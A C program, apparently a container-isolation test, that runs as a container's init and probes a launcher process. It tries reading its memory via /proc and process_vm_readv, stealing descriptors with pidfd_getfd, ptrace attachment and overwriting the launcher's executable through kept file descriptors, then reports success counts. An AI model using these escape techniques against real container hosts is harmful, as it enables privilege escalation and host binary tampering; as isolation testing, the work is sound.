/* A container's first process that wants out: it looks at every process that appears beside it, and as long as that is still a
 * launch program (whose only argument is "c") it tries everything that would give it the program's memory, files or rights.
 * On SIGTERM it writes what it got, one "name count" a line, and ends. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

enum { LAUNCH_PROGRAM = 0x400000, REPORT = 3, AHEAD = 100 };

static volatile sig_atomic_t told_to_end;
static char own_rights[2048];

static void end(int signal) { told_to_end = signal; }

static const char *path(int pid, const char *name)
{
    static char text[64];
    snprintf(text, sizeof text, "/proc/%d/%s", pid, name);
    return text;
}

static int can_open(int pid, const char *name)
{
    int fd = open(path(pid, name), O_RDONLY);
    if (fd >= 0)
        close(fd);
    return fd >= 0;
}

static int can_follow(int pid, const char *name)
{
    char target[256];
    return readlink(path(pid, name), target, sizeof target) >= 0 || can_open(pid, name);
}

static ssize_t read_all(int pid, const char *name, char *to, size_t size)
{
    int fd = open(path(pid, name), O_RDONLY);
    if (fd < 0)
        return -1;
    ssize_t count = read(fd, to, size - 1);
    close(fd);
    to[count < 0 ? 0 : count] = 0;
    return count;
}

static int is_launch_program(int pid)
{
    char line[16];
    return read_all(pid, "cmdline", line, sizeof line) == 2 && strcmp(line, "c") == 0;
}

static int read_rights(int pid, char *to)
{
    static const char *const kinds[] = {"Uid:", "Gid:", "Groups:", "CapInh:", "CapPrm:", "CapEff:", "CapBnd:", "CapAmb:", "NoNewPrivs:", "Seccomp:"};
    char status[4096];
    *to = 0;
    if (read_all(pid, "status", status, sizeof status) <= 0)
        return 0;
    for (char *line = strtok(status, "\n"); line; line = strtok(NULL, "\n"))
        for (size_t i = 0; i < sizeof kinds / sizeof *kinds; i++)
            if (strncmp(line, kinds[i], strlen(kinds[i])) == 0)
                strcat(to, line);
    return 1;
}

static int has_other_rights(int pid)
{
    char rights[2048];
    return read_rights(pid, rights) && strcmp(rights, own_rights) != 0;
}

static int is_elf(const char *bytes, ssize_t count) { return count == 4 && memcmp(bytes, "\177ELF", 4) == 0; }

static int can_read_memory(int pid)
{
    char bytes[4];
    int fd = open(path(pid, "mem"), O_RDONLY);
    if (fd < 0)
        return 0;
    ssize_t count = pread(fd, bytes, sizeof bytes, LAUNCH_PROGRAM);
    close(fd);
    return is_elf(bytes, count);
}

static int can_copy_memory(int pid)
{
    char bytes[4];
    struct iovec here = {bytes, sizeof bytes}, there = {(void *)(long)LAUNCH_PROGRAM, sizeof bytes};
    return is_elf(bytes, process_vm_readv(pid, &here, 1, &there, 1, 0));
}

static int can_take_descriptor(int pid)
{
    int process = syscall(SYS_pidfd_open, pid, 0);
    int fd = syscall(SYS_pidfd_getfd, process, REPORT, 0);
    close(process);
    if (fd >= 0)
        close(fd);
    return fd >= 0;
}

/* What was got hold of while it ran is kept, to be written to when nothing runs from it any more. */
enum { MOST_KEPT = 16 };
static int kept[MOST_KEPT], kept_count;

static int can_keep_executable(int pid)
{
    int fd = kept_count < MOST_KEPT ? open(path(pid, "exe"), O_RDONLY) : -1;
    if (fd < 0)
        return 0;
    if (!is_launch_program(pid)) {
        /* It may be the container's own program already, which its root may write. */
        close(fd);
        return 0;
    }
    kept[kept_count++] = fd;
    return 1;
}

static int overwrite_kept(void)
{
    char again[32];
    int count = 0;
    for (int i = 0; i < kept_count; i++) {
        snprintf(again, sizeof again, "/proc/self/fd/%d", kept[i]);
        int fd = open(again, O_WRONLY);
        count += fd >= 0 && pwrite(fd, "!", 1, 0) == 1;
    }
    return count;
}

/* Done a few times only: whoever is traced stands still, and the launches are to go on. */
static int can_trace(int pid)
{
    static int left = 10;
    if (left == 0 || ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
        return 0;
    left--;
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    waitpid(pid, NULL, __WALL);
    ptrace(PTRACE_DETACH, pid, 0, 0);
    return 1;
}

static int can_open_environment(int pid) { return can_open(pid, "environ"); }
static int can_open_maps(int pid) { return can_open(pid, "maps"); }
static int can_follow_executable(int pid) { return can_follow(pid, "exe"); }
static int can_follow_report(int pid) { return can_follow(pid, "fd/3"); }
static int can_follow_directory(int pid) { return can_follow(pid, "cwd"); }

static struct attack {
    const char *name;
    int (*succeeds)(int pid);
} attacks[] = {
    {"rights", has_other_rights},
    {"mem", can_read_memory},
    {"vm", can_copy_memory},
    {"maps", can_open_maps},
    {"environ", can_open_environment},
    {"exe", can_follow_executable},
    {"kept", can_keep_executable},
    {"fd", can_follow_report},
    {"getfd", can_take_descriptor},
    {"cwd", can_follow_directory},
    {"ptrace", can_trace},
};

enum { ATTACKS = sizeof attacks / sizeof *attacks };

static int counts[ATTACKS];

static int attack(int pid)
{
    int looks = 0;
    while (is_launch_program(pid) && !told_to_end) {
        looks++;
        for (int i = 0; i < ATTACKS; i++)
            /* What it is after its program has begun to run is everybody's. */
            if (attacks[i].succeeds(pid) && is_launch_program(pid))
                counts[i]++;
    }
    return looks;
}

int main(void)
{
    int next = getpid() + 1, processes = 0;
    signal(SIGTERM, end);
    read_rights(getpid(), own_rights);
    while (!told_to_end)
        for (int pid = next; pid < next + AHEAD; pid++)
            if (kill(pid, 0) == 0) {
                processes += attack(pid) > 0;
                next = pid + 1;
            }

    printf("processes %d\n", processes);
    for (int i = 0; i < ATTACKS; i++)
        if (counts[i] > 0)
            printf("%s %d\n", attacks[i].name, counts[i]);
    int overwritten = overwrite_kept();
    if (overwritten > 0)
        printf("overwritten %d\n", overwritten);
    return 0;
}
